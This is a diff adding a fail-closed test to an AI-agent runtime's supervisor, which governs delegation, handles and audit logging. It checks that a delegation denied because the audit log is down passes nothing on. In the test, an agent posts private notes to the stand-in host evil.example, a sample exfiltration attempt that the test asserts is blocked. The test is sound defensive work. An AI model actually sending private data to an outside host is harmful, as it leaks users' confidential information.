@@ -244,3 +244,30 @@ def test_a_destination_that_routes_elsewhere_is_not_admitted_by_a_domain_pattern
     assert h.call("assistant", "notes.read").allowed  # private: readers *@corp.example
     d = h.call("assistant", "mail.send", {"to": to, "body": "launch date"})
     assert d.code == "FLOW_DENIED", d
+
+
+# ---------------------------------------------------------------------------- fail closed
+
+
+def test_a_delegation_denied_because_the_log_is_down_passes_no_handle_on(h, monkeypatch):
+    """``delegate`` adds the target to the handle's agents before it writes the delegate record; the
+    log is down, the delegation is denied (AUDIT_UNAVAILABLE) but the handle stays passed on, and
+    the target uses it under its own token. A denied request must change nothing."""
+    from runtime.errors import AuditUnavailable
+
+    h.add_agent({"agent": "lax", "tools": {"web.post": {"effect": "write"}}})
+    h.add_agent(hiding("boss", "notes.read", delegation={"can_delegate_to": ["lax"], "max_depth": 2}))
+    notes = h.call("boss", "notes.read").value
+    audit, real = h.supervisor.audit, h.supervisor.audit.record
+
+    def down(kind: str, **fields: Any) -> int:
+        if kind == "delegate":
+            raise AuditUnavailable("disk full")
+        return real(kind, **fields)
+
+    monkeypatch.setattr(audit, "record", down)
+    denied = h.delegate("boss", "lax", handles=[notes])
+    assert not denied.allowed and denied.error.code is ErrorCode.AUDIT_UNAVAILABLE
+    monkeypatch.setattr(audit, "record", real)
+    d = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes})
+    assert d.code == "HANDLE_DENIED", (d.value, d.audit)
